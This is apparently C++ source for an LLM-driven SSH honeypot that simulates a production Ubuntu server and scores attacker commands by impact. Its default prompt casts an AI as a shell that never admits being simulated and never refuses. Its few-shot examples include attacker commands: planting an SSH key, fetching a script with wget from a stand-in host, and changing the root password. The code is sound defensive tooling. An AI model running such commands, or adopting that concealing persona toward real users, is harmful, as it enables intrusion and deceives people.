#include "decoysh/domain.hpp"

#include <sodium.h>

#include <algorithm>
#include <array>
#include <cctype>
#include <cmath>
#include <ctime>
#include <limits>
#include <span>

namespace decoysh {

namespace {

using nlohmann::json;

std::string lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return out;
}

bool parse_digits(std::string_view s, std::size_t pos, std::size_t n, int& out) {
  if (pos + n > s.size()) return false;
  int v = 0;
  for (std::size_t i = 0; i < n; ++i) {
    char c = s[pos + i];
    if (c < '0' || c > '9') return false;
    v = v * 10 + (c - '0');
  }
  out = v;
  return true;
}

}  // namespace

// ---------------------------------------------------------------------------
// Time

std::string format_timestamp(Timestamp t) {
  using namespace std::chrono;
  auto secs = floor<seconds>(t);
  auto ms = (t - secs).count();
  std::time_t tt = system_clock::to_time_t(secs);
  std::tm tm{};
  gmtime_r(&tt, &tm);
  std::array<char, 96> buf{};
  std::snprintf(buf.data(), buf.size(), "%04d-%02d-%02dT%02d:%02d:%02d.%03dZ", tm.tm_year + 1900,
                tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, static_cast<int>(ms));
  return buf.data();
}

std::optional<std::int64_t> parse_timestamp_micros(std::string_view s) {
  int y, mo, d, h, mi, se;
  if (!parse_digits(s, 0, 4, y) || s.size() < 19 || s[4] != '-' || !parse_digits(s, 5, 2, mo) ||
      s[7] != '-' || !parse_digits(s, 8, 2, d) || (s[10] != 'T' && s[10] != ' ') ||
      !parse_digits(s, 11, 2, h) || s[13] != ':' || !parse_digits(s, 14, 2, mi) || s[16] != ':' ||
      !parse_digits(s, 17, 2, se)) {
    return std::nullopt;
  }
  if (mo < 1 || mo > 12 || d < 1 || d > 31 || h > 23 || mi > 59 || se > 60) return std::nullopt;
  std::size_t pos = 19;
  std::int64_t micros = 0;
  if (pos < s.size() && s[pos] == '.') {
    ++pos;
    int digits = 0;
    while (pos < s.size() && std::isdigit(static_cast<unsigned char>(s[pos]))) {
      if (digits < 6) micros = micros * 10 + (s[pos] - '0');
      ++digits;
      ++pos;
    }
    if (digits == 0) return std::nullopt;
    for (int i = digits; i < 6; ++i) micros *= 10;
  }
  std::int64_t offset_sec = 0;
  std::string_view rest = s.substr(pos);
  if (rest == "Z" || rest.empty()) {
  } else if ((rest[0] == '+' || rest[0] == '-') && rest.size() == 6 && rest[3] == ':') {
    int oh, om;
    if (!parse_digits(rest, 1, 2, oh) || !parse_digits(rest, 4, 2, om)) return std::nullopt;
    offset_sec = (oh * 3600 + om * 60) * (rest[0] == '+' ? 1 : -1);
  } else {
    return std::nullopt;
  }
  using namespace std::chrono;
  auto days = sys_days{year{y} / month{static_cast<unsigned>(mo)} / day{static_cast<unsigned>(d)}};
  if (!year_month_day{days}.ok()) return std::nullopt;
  std::int64_t secs = duration_cast<seconds>(days.time_since_epoch()).count() + h * 3600 +
                      mi * 60 + se - offset_sec;
  return secs * 1'000'000 + micros;
}

std::optional<Timestamp> parse_timestamp(std::string_view text) {
  auto us = parse_timestamp_micros(text);
  if (!us) return std::nullopt;
  std::int64_t ms = *us >= 0 ? *us / 1000 : -((-*us + 999) / 1000);
  return Timestamp{std::chrono::milliseconds{ms}};
}

// ---------------------------------------------------------------------------
// Failure taxonomy

std::string_view to_string(FailureKind kind) {
  switch (kind) {
    case FailureKind::WrongFormat: return "wrong_format";
    case FailureKind::WrongCommand: return "wrong_command";
    case FailureKind::LengthExceeded: return "length_exceeded";
    case FailureKind::SecurityPolicy: return "security_policy";
    case FailureKind::TransportError: return "transport_error";
  }
  return "transport_error";
}

std::optional<FailureKind> failure_kind_from_string(std::string_view text) {
  for (auto k : {FailureKind::WrongFormat, FailureKind::WrongCommand, FailureKind::LengthExceeded,
                 FailureKind::SecurityPolicy, FailureKind::TransportError}) {
    if (to_string(k) == text) return k;
  }
  return std::nullopt;
}

// ---------------------------------------------------------------------------
// Interaction

void to_json(json& j, const Interaction& x) {
  j = json{{"index", x.index},         {"query", x.query},   {"answer", x.answer},
           {"state_change", x.state_change}, {"impact", x.impact}, {"wall_time", format_timestamp(x.wall_time)}};
}

void from_json(const json& j, Interaction& x) {
  j.at("index").get_to(x.index);
  j.at("query").get_to(x.query);
  j.at("answer").get_to(x.answer);
  j.at("state_change").get_to(x.state_change);
  j.at("impact").get_to(x.impact);
  if (x.impact < kMinImpact || x.impact > kMaxImpact) {
    throw std::invalid_argument("interaction impact out of range");
  }
  auto t = parse_timestamp(j.at("wall_time").get<std::string>());
  if (!t) throw std::invalid_argument("bad wall_time");
  x.wall_time = *t;
}

// ---------------------------------------------------------------------------
// StateRegister / ImpactLedger

void StateRegister::append(int index, std::string text) {
  if (!entries_.empty() && index <= entries_.back().index) {
    throw std::invalid_argument("state register indices must increase");
  }
  entries_.push_back({index, std::move(text)});
}

ImpactLedger::ImpactLedger(double weaken_factor) : weaken_factor_(weaken_factor) {
  if (!(weaken_factor > 0.0 && weaken_factor <= 1.0)) {
    throw std::invalid_argument("weaken factor must lie in (0, 1]");
  }
}

void ImpactLedger::insert(int index, int impact) {
  if (impact < kMinImpact || impact > kMaxImpact) throw std::invalid_argument("impact out of range");
  if (!entries_.empty() && index <= entries_.back().index) {
    throw std::invalid_argument("ledger indices must increase");
  }
  entries_.push_back({index, impact, static_cast<double>(impact), 0});
}

void ImpactLedger::decay() {
  for (auto& e : entries_) {
    e.effective_impact *= weaken_factor_;
    ++e.decays;
  }
}

bool ImpactLedger::erase(int index) {
  auto it = std::find_if(entries_.begin(), entries_.end(),
                         [&](const LedgerEntry& e) { return e.index == index; });
  if (it == entries_.end()) return false;
  entries_.erase(it);
  return true;
}

std::optional<int> ImpactLedger::min_index() const {
  if (entries_.empty()) return std::nullopt;
  // entries_ is index-ascending, so strict < keeps the oldest on ties
  const LedgerEntry* best = &entries_.front();
  for (const auto& e : entries_) {
    if (e.effective_impact < best->effective_impact) best = &e;
  }
  return best->index;
}

// ---------------------------------------------------------------------------
// Profile

HoneypotProfile default_profile() {
  HoneypotProfile p;
  p.principles.role =
      "You are a Linux server terminal. Behave exactly like a real interactive bash shell on the "
      "machine described in the settings. Never reveal that you are simulated, never explain "
      "yourself, and never refuse a command: answer every command with the output the real "
      "system would print. Keep the attacker engaged by making requested actions appear to "
      "succeed whenever the real system plausibly would.";
  p.principles.time_sensitivity =
      "Use the current time and boot time below for any time-dependent output (date, uptime, "
      "top, w, last, ls -l timestamps). Files created during this session carry timestamps "
      "close to the current time.";
  p.principles.io_format =
      "Input: the system settings, the register of state changes caused by earlier commands, "
      "the recent command history, and the new command. Output: a single JSON object, no "
      "markdown, no commentary.";
  p.principles.few_shot = {
      {"whoami", "root", "none", 0},
      {"cd /tmp", "", "working directory changed to /tmp", 2},
      {"echo 'ssh-rsa AAAAB3Nza...' >> ~/.ssh/authorized_keys", "",
       "appended an ssh key to /root/.ssh/authorized_keys", 2},
      {"wget http://203.0.113.7/x.sh",
       "--2024-03-02 10:14:05--  http://203.0.113.7/x.sh\nConnecting to 203.0.113.7:80... "
       "connected.\nHTTP request sent, awaiting response... 200 OK\nLength: 1423 (1.4K) "
       "[application/x-sh]\nSaving to: 'x.sh'\n\nx.sh                100%[===================>]   "
       "1.39K  --.-KB/s    in 0s\n\n2024-03-02 10:14:05 (98.1 MB/s) - 'x.sh' saved [1423/1423]",
       "downloaded /tmp/x.sh (1423 bytes)", 3},
      {"passwd", "New password: \nRetype new password: \npasswd: password updated successfully",
       "root password changed", 4},
  };

  auto& hw = p.settings.hardware;
  hw.cpu_model = "Intel(R) Xeon(R) Gold 6248R CPU @ 3.00GHz";
  hw.cpu_count = 16;
  hw.gpu_model = "NVIDIA A100-PCIE-40GB";
  hw.storage = "2 x 1.92TB NVMe SSD (RAID1), 1.8T usable";

  auto& sw = p.settings.software;
  sw.os_name = "Ubuntu";
  sw.os_version = "20.04.6 LTS (Focal Fossa)";
  sw.kernel = "5.4.0-169-generic x86_64";
  sw.hostname = "web-prod-03";
  sw.default_user = "root";
  sw.open_ports = {22, 80, 443, 3306};
  sw.users = {"root", "ubuntu", "www-data", "mysql", "deploy"};
  sw.services = {"sshd", "nginx 1.18.0", "mysql 8.0.36", "cron", "docker 24.0.5"};
  sw.scheduled_tasks = {"*/5 * * * * /usr/local/bin/backup.sh", "0 3 * * * certbot renew --quiet"};
  sw.filesystem_highlights = {"/var/www/html (company web site, PHP)", "/root/.ssh/authorized_keys",
                              "/home/deploy/.aws/credentials", "/opt/app/config.yml"};

  p.boot_time = *parse_timestamp("2024-01-15T06:42:11.000Z");
  return p;
}

std::vector<std::string> validate(const HoneypotProfile& p) {
  std::vector<std::string> problems;
  if (p.principles.few_shot.size() > kMaxFewShot) {
    problems.push_back("profile.principles.few_shot: at most 8 examples");
  }
  for (std::size_t i = 0; i < p.principles.few_shot.size(); ++i) {
    const auto& ex = p.principles.few_shot[i];
    if (ex.command.empty()) {
      problems.push_back("profile.principles.few_shot[" + std::to_string(i) + "].command: empty");
    }
    if (ex.impact < kMinImpact || ex.impact > kMaxImpact) {
      problems.push_back("profile.principles.few_shot[" + std::to_string(i) + "].impact: must be 0..4");
    }
  }
  if (p.settings.hardware.cpu_count < 1) problems.push_back("profile.settings.hardware.cpu_count: must be >= 1");
  if (p.settings.software.hostname.empty()) problems.push_back("profile.settings.software.hostname: empty");
  if (p.settings.software.default_user.empty()) {
    problems.push_back("profile.settings.software.default_user: empty");
  }
  for (int port : p.settings.software.open_ports) {
    if (port < 1 || port > 65535) {
      problems.push_back("profile.settings.software.open_ports: " + std::to_string(port) + " out of range");
    }
  }
  return problems;
}

void to_json(json& j, const HoneypotProfile& p) {
  json shots = json::array();
  for (const auto& ex : p.principles.few_shot) {
    shots.push_back({{"command", ex.command},
                     {"output", ex.output},
                     {"state_change", ex.state_change},
                     {"impact", ex.impact}});
  }
  const auto& hw = p.settings.hardware;
  const auto& sw = p.settings.software;
  j = json{
      {"principles",
       {{"role", p.principles.role},
        {"time_sensitivity", p.principles.time_sensitivity},
        {"io_format", p.principles.io_format},
        {"few_shot", shots}}},
      {"settings",
       {{"hardware",
         {{"cpu_model", hw.cpu_model},
          {"cpu_count", hw.cpu_count},
          {"gpu_model", hw.gpu_model ? json(*hw.gpu_model) : json(nullptr)},
          {"storage", hw.storage}}},
        {"software",
         {{"os_name", sw.os_name},
          {"os_version", sw.os_version},
          {"kernel", sw.kernel},
          {"hostname", sw.hostname},
          {"default_user", sw.default_user},
          {"open_ports", sw.open_ports},
          {"users", sw.users},
          {"services", sw.services},
          {"scheduled_tasks", sw.scheduled_tasks},
          {"filesystem_highlights", sw.filesystem_highlights}}}}},
      {"boot_time", format_timestamp(p.boot_time)},
  };
}

namespace {

template <class T>
void get_if_present(const json& j, std::string_view where, const char* key, T& out) {
  auto it = j.find(key);
  if (it == j.end()) return;
  try {
    it->get_to(out);
  } catch (const json::exception& e) {
    throw std::invalid_argument(std::string(where) + "." + key + ": wrong type (" + it->type_name() + ")");
  }
}

void require_object(const json& j, std::string_view where) {
  if (!j.is_object()) throw std::invalid_argument(std::string(where) + ": expected an object");
}

}  // namespace

void from_json(const json& j, HoneypotProfile& p) {
  p = default_profile();
  require_object(j, "profile");
  if (auto pr = j.find("principles"); pr != j.end()) {
    require_object(*pr, "profile.principles");
    get_if_present(*pr, "profile.principles", "role", p.principles.role);
    get_if_present(*pr, "profile.principles", "time_sensitivity", p.principles.time_sensitivity);
    get_if_present(*pr, "profile.principles", "io_format", p.principles.io_format);
    if (auto fs = pr->find("few_shot"); fs != pr->end()) {
      p.principles.few_shot.clear();
      if (!fs->is_array()) throw std::invalid_argument("profile.principles.few_shot: expected an array");
      for (std::size_t i = 0; i < fs->size(); ++i) {
        const auto& e = (*fs)[i];
        const std::string where = "profile.principles.few_shot[" + std::to_string(i) + "]";
        require_object(e, where);
        if (!e.contains("command") || !e.at("command").is_string()) {
          throw std::invalid_argument(where + ".command: expected a string");
        }
        FewShotExample ex;
        e.at("command").get_to(ex.command);
        get_if_present(e, where, "output", ex.output);
        get_if_present(e, where, "state_change", ex.state_change);
        get_if_present(e, where, "impact", ex.impact);
        p.principles.few_shot.push_back(std::move(ex));
      }
    }
  }
  if (auto st = j.find("settings"); st != j.end()) {
    require_object(*st, "profile.settings");
    if (auto hw = st->find("hardware"); hw != st->end()) {
      require_object(*hw, "profile.settings.hardware");
      auto& h = p.settings.hardware;
      get_if_present(*hw, "profile.settings.hardware", "cpu_model", h.cpu_model);
      get_if_present(*hw, "profile.settings.hardware", "cpu_count", h.cpu_count);
      if (auto g = hw->find("gpu_model"); g != hw->end()) {
        if (g->is_null()) {
          h.gpu_model.reset();
        } else {
          if (!g->is_string()) throw std::invalid_argument("profile.settings.hardware.gpu_model: expected a string or null");
          h.gpu_model = g->get<std::string>();
        }
      }
      get_if_present(*hw, "profile.settings.hardware", "storage", h.storage);
    }
    if (auto sw = st->find("software"); sw != st->end()) {
      require_object(*sw, "profile.settings.software");
      auto& s = p.settings.software;
      get_if_present(*sw, "profile.settings.software", "os_name", s.os_name);
      get_if_present(*sw, "profile.settings.software", "os_version", s.os_version);
      get_if_present(*sw, "profile.settings.software", "kernel", s.kernel);
      get_if_present(*sw, "profile.settings.software", "hostname", s.hostname);
      get_if_present(*sw, "profile.settings.software", "default_user", s.default_user);
      get_if_present(*sw, "profile.settings.software", "open_ports", s.open_ports);
      get_if_present(*sw, "profile.settings.software", "users", s.users);
      get_if_present(*sw, "profile.settings.software", "services", s.services);
      get_if_present(*sw, "profile.settings.software", "scheduled_tasks", s.scheduled_tasks);
      get_if_present(*sw, "profile.settings.software", "filesystem_highlights", s.filesystem_highlights);
    }
  }
  if (auto bt = j.find("boot_time"); bt != j.end()) {
    if (!bt->is_string()) throw std::invalid_argument("profile.boot_time: expected a string");
    auto t = parse_timestamp(bt->get<std::string>());
    if (!t) throw std::invalid_argument("profile.boot_time: not an ISO-8601 UTC timestamp");
    p.boot_time = *t;
  }
}

std::string sha256_hex(std::string_view bytes) {
  std::array<unsigned char, crypto_hash_sha256_BYTES> digest{};
  crypto_hash_sha256(digest.data(), reinterpret_cast<const unsigned char*>(bytes.data()), bytes.size());
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out;
  out.reserve(digest.size() * 2);
  for (unsigned char b : digest) {
    out.push_back(kHex[b >> 4]);
    out.push_back(kHex[b & 0xf]);
  }
  return out;
}

std::string profile_digest(const HoneypotProfile& profile) {
  json j = profile;
  return sha256_hex(j.dump());
}

// ---------------------------------------------------------------------------
// Impact classification

namespace {

struct VerbClass {
  std::string_view verb;
  int value;
};

// Verb families from the impact assignment table:
// 0 read/display, 1 create/install, 2 modify/cd/shell, 3 service/download/elevate,
// 4 impact services/delete/password.
constexpr std::array kVerbClasses = {
    VerbClass{"rm", 4},        VerbClass{"rmdir", 4},     VerbClass{"shred", 4},
    VerbClass{"unlink", 4},    VerbClass{"wipefs", 4},    VerbClass{"dd", 4},
    VerbClass{"passwd", 4},    VerbClass{"chpasswd", 4},  VerbClass{"userdel", 4},
    VerbClass{"deluser", 4},   VerbClass{"kill", 4},      VerbClass{"killall", 4},
    VerbClass{"pkill", 4},     VerbClass{"shutdown", 4},  VerbClass{"reboot", 4},
    VerbClass{"halt", 4},      VerbClass{"poweroff", 4},  VerbClass{"iptables", 4},
    VerbClass{"ufw", 4},

    VerbClass{"wget", 3},      VerbClass{"curl", 3},      VerbClass{"tftp", 3},
    VerbClass{"ftp", 3},       VerbClass{"ftpget", 3},    VerbClass{"scp", 3},
    VerbClass{"sftp", 3},      VerbClass{"rsync", 3},     VerbClass{"systemctl", 3},
    VerbClass{"service", 3},   VerbClass{"sudo", 3},      VerbClass{"su", 3},
    VerbClass{"pkexec", 3},    VerbClass{"doas", 3},      VerbClass{"nohup", 3},

    VerbClass{"cd", 2},        VerbClass{"mv", 2},        VerbClass{"chmod", 2},
    VerbClass{"chown", 2},     VerbClass{"chgrp", 2},     VerbClass{"chsh", 2},
    VerbClass{"chattr", 2},    VerbClass{"ln", 2},        VerbClass{"truncate", 2},
    VerbClass{"setfacl", 2},   VerbClass{"usermod", 2},   VerbClass{"crontab", 2},
    VerbClass{"tee", 2},       VerbClass{"export", 2},    VerbClass{"vi", 2},
    VerbClass{"vim", 2},       VerbClass{"nano", 2},

    VerbClass{"touch", 1},     VerbClass{"mkdir", 1},     VerbClass{"cp", 1},
    VerbClass{"install", 1},   VerbClass{"apt", 1},       VerbClass{"apt-get", 1},
    VerbClass{"yum", 1},       VerbClass{"dnf", 1},       VerbClass{"apk", 1},
    VerbClass{"pip", 1},       VerbClass{"pip3", 1},      VerbClass{"npm", 1},
    VerbClass{"useradd", 1},   VerbClass{"adduser", 1},   VerbClass{"tar", 1},
    VerbClass{"unzip", 1},     VerbClass{"gunzip", 1},    VerbClass{"git", 1},
    VerbClass{"make", 1},      VerbClass{"gcc", 1},       VerbClass{"cc", 1},
    VerbClass{"mkfifo", 1},
};

struct EffectClass {
  std::string_view phrase;
  int value;
};

constexpr std::array kEffectClasses = {
    EffectClass{"delet", 4},           EffectClass{"remov", 4},
    EffectClass{"password changed", 4}, EffectClass{"password updated", 4},
    EffectClass{"password change", 4}, EffectClass{"killed", 4},
    EffectClass{"terminated", 4},      EffectClass{"service disrupted", 4},
    EffectClass{"wiped", 4},           EffectClass{"shut down", 4},
    EffectClass{"reboot", 4},

    EffectClass{"download", 3},        EffectClass{"service started", 3},
    EffectClass{"service stopped", 3}, EffectClass{"started service", 3},
    EffectClass{"stopped service", 3}, EffectClass{"service restarted", 3},
    EffectClass{"privilege", 3},       EffectClass{"elevat", 3},

    EffectClass{"modif", 2},           EffectClass{"working directory", 2},
    EffectClass{"changed directory", 2}, EffectClass{"shell changed", 2},
    EffectClass{"changed shell", 2},   EffectClass{"permission", 2},
    EffectClass{"moved", 2},           EffectClass{"renamed", 2},
    EffectClass{"appended", 2},

    EffectClass{"creat", 1},           EffectClass{"install", 1},
    EffectClass{"new file", 1},        EffectClass{"written", 1},
};

std::vector<std::string_view> split_segments(std::string_view cmd) {
  std::vector<std::string_view> out;
  std::size_t start = 0;
  char quote = 0;
  for (std::size_t i = 0; i < cmd.size(); ++i) {
    char c = cmd[i];
    if (quote) {
      if (c == quote) quote = 0;
      continue;
    }
    if (c == '\'' || c == '"') {
      quote = c;
    } else if (c == ';' || c == '|' || c == '&' || c == '\n' || c == '`' || c == '(' || c == ')') {
      out.push_back(cmd.substr(start, i - start));
      start = i + 1;
    } else if (c == '$' && i + 1 < cmd.size() && cmd[i + 1] == '(') {
      out.push_back(cmd.substr(start, i - start));
      start = i + 2;
      ++i;
    }
  }
  out.push_back(cmd.substr(start));
  return out;
}

std::vector<std::string_view> words(std::string_view seg) {
  std::vector<std::string_view> out;
  std::size_t i = 0;
  while (i < seg.size()) {
    while (i < seg.size() && std::isspace(static_cast<unsigned char>(seg[i]))) ++i;
    std::size_t b = i;
    while (i < seg.size() && !std::isspace(static_cast<unsigned char>(seg[i]))) ++i;
    if (i > b) out.push_back(seg.substr(b, i - b));
  }
  return out;
}

int redirect_class(std::string_view seg) {
  char quote = 0;
  for (std::size_t i = 0; i < seg.size(); ++i) {
    char c = seg[i];
    if (quote) {
      if (c == quote) quote = 0;
      continue;
    }
    if (c == '\'' || c == '"') {
      quote = c;
    } else if (c == '>') {
      if (i > 0 && (seg[i - 1] == '2' || seg[i - 1] == '&')) {
        // 2>/dev/null and friends
        std::size_t j = i + 1;
        if (j < seg.size() && seg[j] == '>') ++j;
        while (j < seg.size() && seg[j] == ' ') ++j;
        if (seg.substr(j).starts_with("/dev/null") || seg.substr(j).starts_with("&1")) continue;
      }
      if (i + 1 < seg.size() && seg[i + 1] == '>') return 2;
      std::size_t j = i + 1;
      while (j < seg.size() && seg[j] == ' ') ++j;
      if (seg.substr(j).starts_with("/dev/null")) continue;
      return 1;
    }
  }
  return 0;
}

int verb_class(std::string_view verb, std::span<const std::string_view> rest) {
  if (auto slash = verb.rfind('/'); slash != std::string_view::npos) {
    if (verb.find("/init.d/") != std::string_view::npos) return 3;
    verb = verb.substr(slash + 1);
  }
  if (verb.starts_with("mkfs")) return 4;
  if (verb == "systemctl" || verb == "service") {
    static constexpr std::array kReadOnly = {"status", "list-units", "list-unit-files", "is-active",
                                             "is-enabled", "show", "--status-all", "cat"};
    for (auto w : rest) {
      for (auto ro : kReadOnly) {
        if (w == ro) return 0;
      }
    }
    return 3;
  }
  if (verb == "sed") {
    for (auto w : rest) {
      if (w.starts_with("-i") || w == "--in-place") return 2;
    }
    return 0;
  }
  if (verb == "crontab") {
    for (auto w : rest) {
      if (w == "-r") return 4;
      if (w == "-l") return 0;
    }
    return 2;
  }
  if (verb == "tar") {
    for (auto w : rest) {
      if (!w.empty() && w[0] != '/' && (w.find('x') != std::string_view::npos || w.find('c') != std::string_view::npos) &&
          w.size() <= 6) {
        return 1;
      }
    }
    return 0;
  }
  if (verb == "git") {
    return !rest.empty() && (rest[0] == "clone" || rest[0] == "pull" || rest[0] == "init") ? 1 : 0;
  }
  if ((verb == "bash" || verb == "sh" || verb == "zsh") && rest.empty()) return 2;  // change shell
  for (const auto& vc : kVerbClasses) {
    if (vc.verb == verb) return vc.value;
  }
  return 0;
}

}  // namespace

int score_command_class(std::string_view command, std::string_view declared_effect) {
  int best = 0;
  for (auto seg : split_segments(command)) {
    auto ws = words(seg);
    std::size_t i = 0;
    // skip leading VAR=value assignments
    while (i < ws.size() && ws[i].find('=') != std::string_view::npos && ws[i][0] != '-' &&
           ws[i][0] != '=') {
      ++i;
    }
    int seg_best = redirect_class(seg);
    while (i < ws.size()) {
      auto verb = ws[i];
      std::span<const std::string_view> rest(ws.data() + i + 1, ws.size() - i - 1);
      seg_best = std::max(seg_best, verb_class(verb, rest));
      // privilege wrappers: classify the wrapped command too
      if ((verb == "sudo" || verb == "doas" || verb == "nohup" || verb == "busybox" || verb == "env" ||
           verb == "time") &&
          i + 1 < ws.size()) {
        ++i;
        while (i < ws.size() && ws[i].starts_with("-")) ++i;
        continue;
      }
      break;
    }
    best = std::max(best, seg_best);
  }
  if (!declared_effect.empty()) {
    std::string effect = lower(declared_effect);
    for (const auto& ec : kEffectClasses) {
      if (effect.find(ec.phrase) != std::string::npos) {
        best = std::max(best, ec.value);
      }
    }
  }
  return std::clamp(best, kMinImpact, kMaxImpact);
}

}  // namespace decoysh
